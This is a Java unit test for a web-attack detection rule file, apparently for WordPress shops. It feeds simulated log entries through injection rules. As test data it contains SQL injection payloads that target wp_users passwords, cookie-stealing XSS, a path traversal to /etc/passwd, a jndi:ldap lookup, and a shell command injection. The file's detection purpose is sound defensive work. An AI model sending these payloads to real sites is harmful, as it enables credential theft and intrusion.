package dev.cordon.domain.detection.pack;

import static dev.cordon.domain.detection.AlertSeverity.MEDIUM;
import static dev.cordon.domain.detection.AttackKind.CODE_INJECTION;
import static dev.cordon.domain.detection.AttackKind.CROSS_SITE_SCRIPTING;
import static dev.cordon.domain.detection.AttackKind.SQL_INJECTION;

import dev.cordon.domain.detection.engine.LogBuilder;
import java.util.List;

class InjectionRulesTest extends RuleFileTest {

    private static final String UNION =
            "1%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--%20-";
    private static final List<String> PROBES =
            List.of(
                    "/?p=1%27",
                    "/?p=1%22",
                    "/?p=1%27)",
                    "/?p=1%22))",
                    "/?cat=1%27",
                    "/?cat=1%22",
                    "/?cat=1%27)",
                    "/?cat=1%22))");

    @Override
    String file() {
        return "injection.yml";
    }

    @Override
    List<RuleCase> cases() {
        return List.of(
                RuleCase.of("sql-injection", SQL_INJECTION, MEDIUM)
                        .attack("in the search", one("/?s=" + UNION), STRANGER)
                        .attack("encoded twice", one("/?s=" + UNION.replace("%", "%25")), STRANGER)
                        .attack(
                                "in the Store API",
                                one("/wp-json/wc/store/v1/products?search=" + UNION),
                                STRANGER)
                        .attack(
                                "with comments for spaces",
                                one("/?p=1%27/**/and/**/sleep(5)/**/and/**/%271%27=%271"),
                                STRANGER)
                        .attack(
                                "in the referer",
                                log().referer("https://x.example/?id=1' AND SLEEP(5)-- -")
                                        .views(STRANGER, 0, "/"),
                                STRANGER)
                        .attack(
                                "in the user agent",
                                log().agent(
                                                "Mozilla/5.0' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -")
                                        .views(STRANGER, 0, "/"),
                                STRANGER)
                        .harmless(
                                "what customers search for",
                                searches(
                                        "western+union+select+gift+card",
                                        "o%27neill+wetsuit",
                                        "1%3D1+tee",
                                        "drop+table+lamp",
                                        "black+%26+decker+--+drill",
                                        "select+from+our+range")),
                RuleCase.of("sql-probing", SQL_INJECTION, MEDIUM)
                        .attack("four in half an hour", probes(4, 500), STRANGER)
                        .harmless("two stray quotes", probes(2, 60)),
                RuleCase.of("sql-probing-slow", SQL_INJECTION, MEDIUM)
                        .attack("eight in six hours", probes(8, 3_000), STRANGER)
                        .harmless("seven all day", probes(7, 3_000)),
                RuleCase.of("cross-site-scripting", CROSS_SITE_SCRIPTING, MEDIUM)
                        .attack(
                                "in the search",
                                one("/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
                                STRANGER)
                        .attack(
                                "in an attribute",
                                one("/?s=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
                                STRANGER)
                        .harmless(
                                "what customers search for",
                                searches(
                                        "i+%3C3+mugs",
                                        "5+%3C+10+cm", "a+%3E+b", "javascript+book")),
                RuleCase.of("code-injection", CODE_INJECTION, MEDIUM)
                        .attack(
                                "a way out of the folder",
                                one("/?page=..%2f..%2f..%2f..%2fetc%2fpasswd"),
                                STRANGER)
                        .attack(
                                "a lookup in a header",
                                log().agent("${jndi:ldap://203.0.113.9/a}").views(STRANGER, 0, "/"),
                                STRANGER)
                        .attack("a command", one("/?ip=8.8.8.8;cat%20/etc/passwd"), STRANGER)
                        .harmless(
                                "what customers search for",
                                searches(
                                        "cat+food+%26+dog+food",
                                        "50%25+off;+sale", "etc.+etc.", "%24100+gift+card"))
                        .harmless(
                                "a page builder at work",
                                log().times(
                                                20,
                                                (log, i) ->
                                                        log.browses(
                                                                STRANGER,
                                                                i,
                                                                "/?elementor-preview=12&ver=17325"
                                                                        + i))));
    }

    private static LogBuilder one(String target) {
        return log().views(STRANGER, 0, target);
    }

    private static LogBuilder searches(String... words) {
        return log().times(
                        words.length,
                        (log, i) ->
                                log.browses(
                                        customer(i),
                                        30L * i,
                                        "/?s=" + words[i] + "&post_type=product"));
    }

    private static LogBuilder probes(int count, int every) {
        return log().times(count, (log, i) -> log.views(STRANGER, (long) i * every, PROBES.get(i)));
    }
}
